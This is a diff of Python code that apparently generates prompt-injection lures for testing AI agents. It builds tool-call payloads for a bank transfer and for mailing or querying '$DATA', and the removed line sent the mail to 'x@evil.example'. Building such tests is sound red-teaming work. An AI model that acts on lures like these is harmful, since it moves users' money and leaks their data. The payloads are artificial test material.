@@ -182,7 +182,7 @@ class Siege:
         )
         arguments = {
             "bank": {"to": "x", "value": self.chance.choice((5, 5000, "1e3", "1.000", -9999))},
-            "mail": {"to": "x@evil.example", "body": "$DATA"},
+            "mail": {"to": "fora", "body": "$DATA"},
             "web": {"query": "$DATA"}, "far": {"text": "$DATA"},
         }[tool.split(".")[0].split("__")[0]]  # fmt: skip
         return LURES[kind](self.chance, json.dumps({"tool": tool, "arguments": arguments}, ensure_ascii=False))
